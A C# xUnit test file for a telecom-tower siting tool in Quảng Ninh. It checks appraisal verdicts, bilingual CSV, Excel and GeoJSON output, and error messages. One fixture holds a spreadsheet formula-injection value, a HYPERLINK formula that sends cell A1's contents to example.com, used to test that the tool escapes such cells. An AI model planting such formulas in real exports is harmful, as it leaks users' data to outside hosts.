using System.Text.Json;
using System.Text.RegularExpressions;

namespace TelecomGis.Cli.Tests;

public class AppraiseCommandTests
{
    private const string Header = "carrier,site_code,lon,lat,pole_class,height_m,camouflaged,shares_site_id";

    private static string Write(string dir, string name, string text)
    {
        var path = Path.Combine(dir, name);
        File.WriteAllText(path, text);
        return path;
    }

    /// <summary>The seed's Móng Cái tower in the military area (R04: needs consultation).</summary>
    private const string MongCaiRow = "Viettel,MC-33,107.97826,21.53008,A2b,33,no,";

    /// <summary>A site in Hồng Gai whose code is a formula that would leak data if run (R08: does not conform).</summary>
    private const string FormulaCodeRow = "Viettel,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1)\",107.0800,20.9500,A1a,12,no,";

    /// <summary>A row whose longitude does not read: rejected.</summary>
    private const string UnreadableRow = "VNPT,BAD,abc,20.95,A1a,12,no,";

    /// <summary>seed.csv in a new folder: the header and the rows given.</summary>
    private static string Batch(params string[] rows) =>
        Write(CliRunner.NewTempDir(), "seed.csv", string.Join('\n', [Header, .. rows]) + "\n");

    private static List<Dictionary<string, string>> ReadCsv(string path)
    {
        using var reader = new StreamReader(path);
        using var csv = new CsvHelper.CsvReader(reader, System.Globalization.CultureInfo.InvariantCulture);
        return csv.GetRecords<dynamic>()
            .Select(r => ((IDictionary<string, object>)r).ToDictionary(kv => kv.Key, kv => (string)kv.Value))
            .ToList();
    }

    [Fact]
    public void TheSeedsMongCaiTowerNeedsConsultationBecauseOfTheMilitaryArea()
    {
        var dir = CliRunner.NewTempDir();
        var input = Write(dir, "seed.csv", $"{Header}\nViettel,MC-33,107.97826,21.53008,A2b,33,no,\n");
        var output = Path.Combine(dir, "out.json");
        var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output);
        Assert.Equal(0, r.ExitCode);
        using var doc = JsonDocument.Parse(File.ReadAllText(output));
        var site = doc.RootElement.GetProperty("sites")[0];
        Assert.Equal("needs_consultation", site.GetProperty("verdict").GetString());
        var r04 = site.GetProperty("rules").EnumerateArray().Single(x => x.GetProperty("id").GetString() == "R04");
        Assert.Equal("consult", r04.GetProperty("outcome").GetString());
        Assert.Equal("restricted-areas", r04.GetProperty("feature").GetProperty("layer").GetString());
        Assert.Equal(1, doc.RootElement.GetProperty("summary").GetProperty("needs_consultation").GetInt32());
    }

    /// <summary>
    /// A result that cannot be written, or a broken plan, is said in Vietnamese: the folder that is not there (not the runtime's
    /// English, nor the temporary ".partial" file it names), the bundle file that is missing.
    /// </summary>
    [Fact]
    public void WhatCannotBeReadOrWritten_IsSaidInVietnamese()
    {
        var dir = CliRunner.NewTempDir();
        var input = Write(dir, "seed.csv", $"{Header}\nViettel,MC-33,107.97826,21.53008,A2b,33,no,\n");
        var missing = Path.Combine(dir, "no-such-folder");
        var r = CliRunner.Run(
            null,
            "appraise",
            "--plan",
            CliRunner.QuangNinh,
            "--in",
            input,
            "--out",
            Path.Combine(missing, "ket-qua.csv")
        );
        Assert.Equal(1, r.ExitCode);
        Assert.Equal($"lỗi: không có thư mục '{missing}' (để đọc hoặc ghi 'ket-qua.csv').", r.Stderr.Trim());
        var en = CliRunner.Run(
            null,
            "appraise",
            "--plan",
            CliRunner.QuangNinh,
            "--in",
            input,
            "--out",
            Path.Combine(missing, "x.csv"),
            "--lang",
            "en"
        );
        Assert.DoesNotContain(".partial", en.Stderr, StringComparison.Ordinal);

        var plan = CliRunner.Run(null, "appraise", "--plan", dir, "--in", input);
        Assert.Equal(1, plan.ExitCode);
        Assert.Equal("lỗi: plan.json: không có trong gói quy hoạch", plan.Stderr.Trim());
    }

    /// <summary>
    /// A folder given where a file belongs is named a folder, for the batch read ("không có tệp" before), for the results file
    /// ("không nhận ra định dạng ''" before) and for the template.
    /// </summary>
    [Fact]
    public void AFolderGivenForAFile_IsSaidToBeAFolder()
    {
        var dir = CliRunner.NewTempDir();
        var input = Write(dir, "seed.csv", $"{Header}\nViettel,MC-33,107.97826,21.53008,A2b,33,no,\n");
        var asInput = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", dir);
        var asOutput = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", dir);
        var template = CliRunner.Run(null, "template", "--out", dir);
        foreach (var (r, option) in new[] { (asInput, "--in"), (asOutput, "--out"), (template, "--out") })
        {
            Assert.Equal(1, r.ExitCode);
            Assert.Equal(
                $"lỗi: {option}: '{dir}' là một thư mục, không phải tệp; hãy ghi cả tên tệp.",
                Assert.Single(r.Stderr.Trim().Split('\n'))
            );
        }
    }

    /// <summary>Vietnamese first: the plan is named by the decision that approved it, never by its hash; English keeps the short hash.</summary>
    [Fact]
    public void TheSummaryNamesThePlanByItsApprovingDecision_NotByItsHash()
    {
        var dir = CliRunner.NewTempDir();
        var input = Write(dir, "seed.csv", $"{Header}\nViettel,MC-33,107.97826,21.53008,A2b,33,no,\n");
        var vi = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", Path.Combine(dir, "vi.json"));
        var en = CliRunner.Run(
            null,
            "appraise",
            "--plan",
            CliRunner.QuangNinh,
            "--in",
            input,
            "--out",
            Path.Combine(dir, "en.json"),
            "--lang",
            "en"
        );
        Assert.True(vi.ExitCode == 0, vi.Stderr);
        Assert.Contains(
            "theo Quy hoạch hạ tầng kỹ thuật viễn thông thụ động tỉnh Quảng Ninh (dữ liệu mẫu), Quyết định số 1234/QĐ-UBND ngày 15/06/2023\n",
            vi.Stderr,
            StringComparison.Ordinal
        );
        Assert.DoesNotMatch("[0-9a-f]{12}", vi.Stderr);
        Assert.Matches(@"Decision 1234/QĐ-UBND of 15/06/2023, version [0-9a-f]{12}\n", en.Stderr);
    }

    [Fact]
    public void TheResultsFileIsInVietnameseWithoutCodesOrHashes_AndNoCellRunsAsAFormula()
    {
        var input = Batch(MongCaiRow, FormulaCodeRow, "@SUM(1+1),-2+3,107.0810,20.9510,A1a,12,no,");
        var output = Path.Combine(Path.GetDirectoryName(input)!, "ket-qua.csv");
        Assert.Equal(0, CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output).ExitCode);

        var lines = File.ReadAllLines(output);
        Assert.Equal(
            "Dòng,Doanh nghiệp,Mã trạm,Kinh độ,Vĩ độ,Kết quả thẩm định,Quy định không đạt hoặc cần xin ý kiến,Lý do,Mã xã,\"Xã, phường\",Quy hoạch",
            lines[0]
        );
        Assert.Equal(
            "1,Viettel,MC-33,107.9782600,21.5300800,Cần xin ý kiến cơ quan có thẩm quyền,\"Khu vực quân sự, an ninh (R04)\","
                + "\"[R04] Vị trí nằm trong khu vực quân sự Hải Hòa (Móng Cái): cần xin ý kiến Bộ Chỉ huy Quân sự tỉnh Quảng Ninh "
                + "(Luật Quản lý, bảo vệ công trình quốc phòng và khu quân sự 25/2023/QH15).\",06712,Phường Móng Cái 1,"
                + "\"Quy hoạch hạ tầng kỹ thuật viễn thông thụ động tỉnh Quảng Ninh (dữ liệu mẫu), Quyết định số 1234/QĐ-UBND ngày 15/06/2023\"",
            lines[1]
        );
        var text = string.Join('\n', lines);
        Assert.DoesNotMatch("[0-9a-f]{12}", text);
        Assert.DoesNotMatch("conforms|needs_consultation|rejected|reasons", text);

        // A carrier's text that starts like a formula gets an apostrophe, which Excel shows as text, in either language.
        var vi = ReadCsv(output);
        Assert.Equal("'=HYPERLINK(\"http://example.com/?\"&A1)", vi[1]["Mã trạm"]);
        Assert.Equal("'@SUM(1+1)", vi[2]["Doanh nghiệp"]);
        Assert.Equal("'-2+3", vi[2]["Mã trạm"]);
        Assert.Equal(
            0,
            CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--lang", "en").ExitCode
        );
        var en = ReadCsv(output);
        Assert.Equal("'=HYPERLINK(\"http://example.com/?\"&A1)", en[1]["site_code"]);
        Assert.Equal("'@SUM(1+1)", en[2]["carrier"]);
        Assert.Equal("needs_consultation", en[0]["verdict"]);
        Assert.Equal(64, en[0]["plan_version"].Length);
    }

    /// <summary>
    /// <c>--out results.xlsx</c>: the CSV's Vietnamese columns in an Excel workbook, with the coordinates as numbers (a Vietnamese
    /// Excel reads a CSV's decimal points as text), a carrier's formula-like code as plain text without an apostrophe, and a sheet
    /// with the plan, the day and the counts; with <c>--lang en</c> the English columns.
    /// </summary>
    [Fact]
    public void TheResultsAsAnExcelWorkbook_HaveNumbersAsNumbers_TextAsText_AndTheCounts()
    {
        var input = Batch(MongCaiRow, FormulaCodeRow, UnreadableRow);
        var output = Path.Combine(Path.GetDirectoryName(input)!, "ket-qua.xlsx");
        var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--date", "2026-01-15");
        Assert.Equal(0, r.ExitCode);
        Assert.False(File.Exists(output + ".partial"));

        var rows = MiniExcelLibs
            .MiniExcel.Query(output, useHeaderRow: true, sheetName: "Kết quả thẩm định")
            .Cast<IDictionary<string, object?>>()
            .ToList();
        Assert.Equal(3, rows.Count);
        Assert.Equal(107.97826, Convert.ToDouble(rows[0]["Kinh độ"], System.Globalization.CultureInfo.InvariantCulture), 9);
        Assert.IsType<double>(rows[0]["Kinh độ"]);
        Assert.Equal("Cần xin ý kiến cơ quan có thẩm quyền", rows[0]["Kết quả thẩm định"]);
        Assert.Equal("Khu vực quân sự, an ninh (R04)", rows[0]["Quy định không đạt hoặc cần xin ý kiến"]);
        Assert.Equal("Phường Móng Cái 1", rows[0]["Xã, phường"]);
        Assert.Equal("=HYPERLINK(\"http://example.com/?\"&A1)", rows[1]["Mã trạm"]);
        Assert.Equal("Bị loại (dữ liệu lỗi)", rows[2]["Kết quả thẩm định"]);
        Assert.Null(rows[2]["Kinh độ"]);

        var facts = MiniExcelLibs
            .MiniExcel.Query(output, sheetName: "Thông tin")
            .Cast<IDictionary<string, object?>>()
            .ToDictionary(x => (string)x["A"]!, x => x["B"]);
        Assert.Equal("15/01/2026", facts["Thẩm định theo địa giới xã, phường ngày"]);
        Assert.Equal("seed.csv", facts["Danh sách trạm đề xuất"]);
        Assert.Equal(3.0, Convert.ToDouble(facts["Tổng số dòng"], System.Globalization.CultureInfo.InvariantCulture));
        Assert.Equal(
            1.0,
            Convert.ToDouble(facts["Cần xin ý kiến cơ quan có thẩm quyền"], System.Globalization.CultureInfo.InvariantCulture)
        );
        Assert.Equal(1.0, Convert.ToDouble(facts["Bị loại (dữ liệu lỗi)"], System.Globalization.CultureInfo.InvariantCulture));
        Assert.StartsWith(
            "Quy hoạch hạ tầng kỹ thuật viễn thông thụ động tỉnh Quảng Ninh",
            (string)facts["Quy hoạch"]!,
            StringComparison.Ordinal
        );

        Assert.Equal(
            0,
            CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--lang", "en").ExitCode
        );
        var en = MiniExcelLibs
            .MiniExcel.Query(output, useHeaderRow: true, sheetName: "Results")
            .Cast<IDictionary<string, object?>>()
            .ToList();
        Assert.Equal("needs_consultation", en[0]["verdict"]);
        Assert.Equal("R04", en[0]["failing_rules"]);
        Assert.Equal(64, ((string)en[0]["plan_version"]!).Length);
        Assert.Equal("rejected", en[2]["verdict"]);
    }

    /// <summary>
    /// <c>--out results.geojson</c>: a Point per appraised site for a GIS, the verdict and reasons as properties, a rejected row as
    /// a feature without geometry; GDAL's GeoJSON driver, an outside reader, sees the points and their fields.
    /// </summary>
    [Fact]
    public void TheResultsAsGeoJson_ArePointsAGisReads_WithTheVerdictsAsProperties()
    {
        var input = Batch(MongCaiRow, "Viettel,HL-20,107.0800,20.9500,A1a,12,no,", UnreadableRow);
        var output = Path.Combine(Path.GetDirectoryName(input)!, "ket-qua.geojson");
        Assert.Equal(0, CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--where").ExitCode);

        using var doc = JsonDocument.Parse(File.ReadAllText(output));
        var features = doc.RootElement.GetProperty("features");
        Assert.Equal("FeatureCollection", doc.RootElement.GetProperty("type").GetString());
        Assert.Equal(3, features.GetArrayLength());
        var first = features[0];
        Assert.Equal(107.97826, first.GetProperty("geometry").GetProperty("coordinates")[0].GetDouble(), 9);
        var p = first.GetProperty("properties");
        Assert.Equal("needs_consultation", p.GetProperty("verdict").GetString());
        Assert.Equal("Cần xin ý kiến cơ quan có thẩm quyền", p.GetProperty("verdict_vi").GetString());
        Assert.Equal("R04", p.GetProperty("failing_rules").GetString());
        Assert.Equal("Phường Móng Cái 1", p.GetProperty("commune_name").GetString());
        Assert.True(features[1].GetProperty("properties").TryGetProperty("conforming_distance_m", out _));
        Assert.Equal(JsonValueKind.Null, features[2].GetProperty("geometry").ValueKind);
        Assert.Equal("lon", features[2].GetProperty("properties").GetProperty("rejected_field").GetString());

        var start = new System.Diagnostics.ProcessStartInfo("ogrinfo") { RedirectStandardOutput = true, RedirectStandardError = true };
        foreach (var a in new[] { "-al", "-so", output })
            start.ArgumentList.Add(a);
        using var ogr = System.Diagnostics.Process.Start(start)
            ?? throw new InvalidOperationException("ogrinfo is needed: apt-get install gdal-bin (tools/test.sh does).");
        var info = ogr.StandardOutput.ReadToEnd();
        ogr.WaitForExit();
        Assert.Contains("Geometry: Point", info, StringComparison.Ordinal);
        Assert.Contains("Feature Count: 3", info, StringComparison.Ordinal);
        Assert.Contains("verdict_vi: String", info, StringComparison.Ordinal);
        Assert.Contains("conforming_bearing_deg: Real", info, StringComparison.Ordinal);
    }

    [Fact]
    public void TheReportPeriodsBatchOf279IsAppraisedEndToEndWithTheCountsPrinted()
    {
        var dir = CliRunner.NewTempDir();
        var input = Path.Combine(dir, "proposals.csv");
        var gen = CliRunner.Run(null, "generate", "proposals", "--plan", CliRunner.QuangNinh, "--count", "279", "--out", input);
        Assert.Equal(0, gen.ExitCode);
        var output = Path.Combine(dir, "results.csv");
        var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--lang", "en");
        Assert.Equal(0, r.ExitCode);

        var rows = ReadCsv(output);
        Assert.Equal(279, rows.Count);
        var counts = rows.GroupBy(x => x["verdict"]).ToDictionary(g => g.Key, g => g.Count());
        Assert.Contains(
            $"279 rows: {counts.GetValueOrDefault("conforms")} conforms, {counts.GetValueOrDefault("does_not_conform")} does not conform, "
                + $"{counts.GetValueOrDefault("needs_consultation")} needs consultation, {counts.GetValueOrDefault("rejected")} rejected",
            r.Stderr
        );
        // The generated mix is meant to exercise all three verdicts.
        Assert.True(
            counts.GetValueOrDefault("conforms") > 0
                && counts.GetValueOrDefault("does_not_conform") > 0
                && counts.GetValueOrDefault("needs_consultation") > 0
        );
        Assert.All(rows.Where(x => x["verdict"] == "does_not_conform"), x => Assert.NotEmpty(x["failing_rules"]));
        Assert.All(rows, x => Assert.Equal(64, x["plan_version"].Length));
    }

    [Fact]
    public void TheProgressLinesGroupThousandsAsTheLanguageDoes()
    {
        var dir = CliRunner.NewTempDir();
        var input = Path.Combine(dir, "proposals.csv");
        var gen = CliRunner.Run(null, "generate", "proposals", "--plan", CliRunner.QuangNinh, "--count", "1500", "--out", input);
        Assert.Equal(0, gen.ExitCode);

        var vi = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", Path.Combine(dir, "vi.csv"));
        Assert.Equal(0, vi.ExitCode);
        // Vietnamese groups thousands with a dot; "1,500" would read as one and a half.
        Assert.Contains("Đang thẩm định 1.500 trạm: 1.500/1.500 (100%)", vi.Stderr);
        Assert.DoesNotContain("1,500", vi.Stderr);

        var en = CliRunner.Run(
            null,
            "appraise",
            "--plan",
            CliRunner.QuangNinh,
            "--in",
            input,
            "--out",
            Path.Combine(dir, "en.csv"),
            "--lang",
            "en"
        );
        Assert.Equal(0, en.ExitCode);
        Assert.Contains("Appraising 1,500 sites: 1,500/1,500 (100%)", en.Stderr);
    }

    [Fact]
    public void BadRowsAreRejectedWithAReasonAndTheRestAppraised()
    {
        var dir = CliRunner.NewTempDir();
        var input = Write(
            dir,
            "mixed.csv",
            string.Join(
                '\n',
                Header,
                "Viettel,OK-1,107.97826,21.53008,A2b,33,no,",
                "Viettel,BAD-1,abc,21.53008,A2b,33,no,",
                "VNPT,BAD-2,107.5,21.2,B3,33,no,",
                "MobiFone,BAD-3,107.5,21.2,A2b,-5,no,",
                "MobiFone,SWAP-1,21°31'48.3\"N,107°58'41.7\"E,A1b,12,yes,",
                "MobiFone,DMS-1,107°58'41.7\"E,21°31'48.3\"N,A1b,12,yes,"
            ) + "\n"
        );
        var output = Path.Combine(dir, "out.csv");
        var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--lang", "en");
        Assert.Equal(0, r.ExitCode);
        var rows = ReadCsv(output).ToDictionary(x => x["site_code"]);
        Assert.Equal("rejected", rows["BAD-1"]["verdict"]);
        Assert.Contains("[lon]", rows["BAD-1"]["reasons_en"]);
        Assert.Contains("[pole_class]", rows["BAD-2"]["reasons_en"]);
        Assert.Contains("[height_m]", rows["BAD-3"]["reasons_en"]);
        // DMS in the lon column that is plainly a latitude (…N) is reported as swapped, with the corrected reading.
        Assert.Equal("rejected", rows["SWAP-1"]["verdict"]);
        Assert.Contains("swapped", rows["SWAP-1"]["reasons_en"]);
        Assert.NotEqual("rejected", rows["OK-1"]["verdict"]);
        Assert.NotEqual("rejected", rows["DMS-1"]["verdict"]);

        // In Vietnamese by default: the file gives the rejection in words with the row and the field, not the field's code; the count
        // and each rejected row's reason are printed.
        r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output);
        Assert.Equal(0, r.ExitCode);
        var vi = ReadCsv(output).ToDictionary(x => x["Mã trạm"]);
        Assert.Equal("Bị loại (dữ liệu lỗi)", vi["BAD-1"]["Kết quả thẩm định"]);
        Assert.StartsWith("Dòng 2, trường kinh độ: ", vi["BAD-1"]["Lý do"]);
        Assert.StartsWith("Dòng 3, ", vi["BAD-2"]["Lý do"]);
        Assert.Contains("\"B3\"", vi["BAD-2"]["Lý do"]);
        Assert.Equal("", vi["BAD-1"]["Quy hoạch"]);
        Assert.NotEqual("Bị loại (dữ liệu lỗi)", vi["OK-1"]["Kết quả thẩm định"]);
        Assert.Contains("4 bị loại", r.Stderr);
        Assert.Contains("bị loại: Dòng ", r.Stderr);
    }

    [Fact]
    public void Vn2000RowsAreAppraisedLikeTheirWgs84Equivalent()
    {
        var dir = CliRunner.NewTempDir();
        var input = Write(
            dir,
            "vn2000.csv",
            "carrier,site_code,x,y,epsg,pole_class,height_m,camouflaged\nViettel,MC-XY,2381658.013,523449.987,5899,A2b,33,no\n"
        );
        var output = Path.Combine(dir, "out.csv");
        Assert.Equal(0, CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output).ExitCode);
        var row = Assert.Single(ReadCsv(output));
        Assert.Equal("Cần xin ý kiến cơ quan có thẩm quyền", row["Kết quả thẩm định"]);
        Assert.Equal(107.97826, double.Parse(row["Kinh độ"], System.Globalization.CultureInfo.InvariantCulture), 6);
    }

    [Fact]
    public void AMissingInputFileStopsTheRunWithExitCode1AndWritesNothing()
    {
        var dir = CliRunner.NewTempDir();
        var output = Path.Combine(dir, "out.csv");
        var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", Path.Combine(dir, "nope.csv"), "--out", output);
        Assert.Equal(1, r.ExitCode);
        Assert.Contains("--in: không có tệp", r.Stderr);
        Assert.False(File.Exists(output));
        Assert.DoesNotContain("Exception", r.Stderr);
    }

    [Fact]
    public void ABrokenPlanBundleStopsTheRunWithAMessageNamingTheFile()
    {
        var dir = CliRunner.NewTempDir();
        var plan = Path.Combine(dir, "plan");
        Directory.CreateDirectory(plan);
        foreach (var f in Directory.GetFiles(CliRunner.QuangNinh))
            File.Copy(f, Path.Combine(plan, Path.GetFileName(f)));
        File.WriteAllText(Path.Combine(plan, "zones.geojson"), "{ not json");
        var input = Write(dir, "seed.csv", $"{Header}\nViettel,MC-33,107.97826,21.53008,A2b,33,no,\n");
        var output = Path.Combine(dir, "out.csv");
        var r = CliRunner.Run(null, "appraise", "--plan", plan, "--in", input, "--out", output);
        Assert.Equal(1, r.ExitCode);
        Assert.Contains("zones.geojson", r.Stderr);
        Assert.False(File.Exists(output));
    }

    [Fact]
    public void AHeaderWithoutCoordinatesIsRefused()
    {
        var dir = CliRunner.NewTempDir();
        var input = Write(dir, "bad.csv", "carrier,site_code,pole_class,height_m\nViettel,A,A2b,30\n");
        var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input);
        Assert.Equal(1, r.ExitCode);
        Assert.Contains("thiếu cột Kinh độ và Vĩ độ (hoặc Tọa độ X, Tọa độ Y và Kinh tuyến trục theo VN-2000)", r.Stderr);
    }

    [Fact]
    public void WhereWouldItConformAddsTheNearestConformingPoint()
    {
        var dir = CliRunner.NewTempDir();
        // A generated mix has sites failing the spacing or a planned position, which a move of a few hundred metres fixes.
        var input = Path.Combine(dir, "p.csv");
        Assert.Equal(
            0,
            CliRunner
                .Run(null, "generate", "proposals", "--plan", CliRunner.QuangNinh, "--count", "60", "--seed", "11", "--out", input)
                .ExitCode
        );
        var output = Path.Combine(dir, "out.csv");
        Assert.Equal(0, CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--where").ExitCode);
        var rows = ReadCsv(output);
        const string Distance = "Khoảng cách đến điểm phù hợp (m)";
        var found = rows.Where(x => x[Distance].Length > 0).ToList();
        Assert.NotEmpty(found);
        Assert.All(found, x =>
        {
            Assert.Equal("Không phù hợp quy hoạch", x["Kết quả thẩm định"]);
            Assert.InRange(double.Parse(x[Distance], System.Globalization.CultureInfo.InvariantCulture), 0, 1000);
        });
        // Nearby features by their codes and distances: "PP-0293 (773 m); PP-0067 (804 m)".
        Assert.Contains(rows, x => Regex.IsMatch(x["Vị trí quy hoạch gần đó"], @"^PP-\d+ \(\d+ m\)(; PP-\d+ \(\d+ m\))*$"));

        // In English, the columns programs have read.
        Assert.Equal(
            0,
            CliRunner
                .Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--where", "--lang", "en")
                .ExitCode
        );
        var en = ReadCsv(output);
        Assert.Equal(found.Count, en.Count(x => x["conforming_distance_m"].Length > 0));
        Assert.Contains(en, x => Regex.IsMatch(x["planned_positions_nearby"], @"^PP-\d+@\d+m(\|PP-\d+@\d+m)*$"));
    }
}

public class AppraiseWithDemTests
{
    /// <summary>A 3-arc-second SRTM tile N21E107.hgt at a constant 60 m (big-endian int16), the cell that holds Vân Đồn airport.</summary>
    private static string DemWithHill(string dir)
    {
        var dem = Directory.CreateDirectory(Path.Combine(dir, "dem")).FullName;
        var bytes = new byte[1201 * 1201 * 2];
        for (var i = 0; i < bytes.Length; i += 2)
            System.Buffers.Binary.BinaryPrimitives.WriteInt16BigEndian(bytes.AsSpan(i), 60);
        File.WriteAllBytes(Path.Combine(dem, "N21E107.hgt"), bytes);
        return dem;
    }

    private static JsonElement R10(JsonElement site) =>
        site.GetProperty("rules").EnumerateArray().Single(x => x.GetProperty("id").GetString() == "R10");

    [Fact]
    public void ATowerNearVanDonWithNoGroundElevation_PassesAtAerodromeLevel_ButNeedsConsultationOnTheDemsGround()
    {
        // 40 m tower about 2.4 km east of VVVD's runway: under the inner horizontal surface at 7.3 + 45 = 52.3 m.
        var dir = CliRunner.NewTempDir();
        var input = Path.Combine(dir, "site.csv");
        File.WriteAllText(
            input,
            "carrier,site_code,lon,lat,pole_class,height_m,camouflaged,shares_site_id\nViettel,VD-1,107.440,21.125,A2b,40,no,\n"
        );

        var plain = Path.Combine(dir, "plain.json");
        Assert.Equal(0, CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", plain).ExitCode);
        using var before = JsonDocument.Parse(File.ReadAllText(plain));
        var siteBefore = before.RootElement.GetProperty("sites")[0];
        Assert.Equal("pass", R10(siteBefore).GetProperty("outcome").GetString());
        Assert.False(siteBefore.TryGetProperty("ground_elevation_source", out var none) && none.ValueKind != JsonValueKind.Null);

        var withDem = Path.Combine(dir, "dem.json");
        var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", withDem, "--dem", DemWithHill(dir));
        Assert.Equal(0, r.ExitCode);
        Assert.Contains("địa hình: 1 ô SRTM", r.Stderr);
        using var after = JsonDocument.Parse(File.ReadAllText(withDem));
        var site = after.RootElement.GetProperty("sites")[0];
        Assert.Equal("needs_consultation", site.GetProperty("verdict").GetString());
        Assert.Equal("dem", site.GetProperty("ground_elevation_source").GetString());
        Assert.Equal(60, site.GetProperty("ground_elevation_m").GetDouble());
        var r10 = R10(site);
        Assert.Equal("consult", r10.GetProperty("outcome").GetString());
        Assert.Equal(47.7, r10.GetProperty("measured_value").GetDouble(), 1); // 60 + 40 − 52.3
        Assert.Contains("from the terrain model, DEM", r10.GetProperty("message_en").GetString());
        // The aerodrome by its Vietnamese name in Vietnamese, by OurAirports' English one in English, and as the deciding feature.
        var vi = r10.GetProperty("message_vi").GetString()!;
        Assert.Contains("mặt ngang trong của Cảng hàng không quốc tế Vân Đồn (52,3 m)", vi, StringComparison.Ordinal);
        Assert.DoesNotContain("Airport", vi, StringComparison.Ordinal);
        Assert.Contains("Van Don International Airport's inner horizontal surface", r10.GetProperty("message_en").GetString());
        Assert.Equal("Cảng hàng không quốc tế Vân Đồn", r10.GetProperty("feature").GetProperty("name").GetString());
    }

    [Fact]
    public void AMissingDemFolder_IsOneLineAndExitCode1()
    {
        var dir = CliRunner.NewTempDir();
        var input = Path.Combine(dir, "site.csv");
        File.WriteAllText(
            input,
            "carrier,site_code,lon,lat,pole_class,height_m,camouflaged,shares_site_id\nViettel,VD-1,107.440,21.125,A2b,40,no,\n"
        );
        var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--dem", Path.Combine(dir, "nowhere"));
        Assert.Equal(1, r.ExitCode);
        Assert.Contains("--dem:", r.Stderr);
    }
}
